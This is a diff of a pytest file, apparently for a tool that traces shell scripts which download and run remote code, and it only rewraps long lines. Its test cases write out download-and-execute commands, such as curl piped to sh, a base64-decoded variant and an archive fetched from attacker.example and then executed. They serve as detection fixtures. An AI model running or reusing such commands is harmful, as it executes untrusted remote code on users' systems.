@@ -39,7 +39,8 @@ RUNS = [
     ("heredoc-shell-body", f"bash <<EOF\ncurl -s {URL} | sh\nEOF", URL),
     ("base64-filter", f"curl -s {URL} | base64 -d | sh", URL),
     ("function-body", f"fetch() {{ curl -s {URL} | sh; }}\nfetch", URL),
-    ("extracted-archive", "curl -fsSL https://attacker.example/g.tgz | tar xz && ./g/install", "https://attacker.example/g.tgz"),
+    ("extracted-archive", "curl -fsSL https://attacker.example/g.tgz | tar xz && ./g/install",
+     "https://attacker.example/g.tgz"),
     # tree-sitter-bash #347 glues `echo B` onto `head`; the walker splits it back and still sees the pipe below.
     ("after-long-pipeline", f"a | grep x | head -30\ncurl -s {URL} | bash && cd s", URL),
     ("unknown-url", 'curl -s "$SOMEWHERE" | sh', "?"),
@@ -86,7 +87,9 @@ HUB = [
 
 
 @pytest.mark.parametrize(("name", "script", "repo"), HUB, ids=[h[0] for h in HUB])
-def test_code_fetched_from_a_hub_repo_then_installed_or_run_is_that_repos_code(name: str, script: str, repo: str) -> None:
+def test_code_fetched_from_a_hub_repo_then_installed_or_run_is_that_repos_code(
+    name: str, script: str, repo: str
+) -> None:
     flow = Flow()
     flow.run_script(script)
     assert {h.repo for h in flow.hub} == {repo}, name
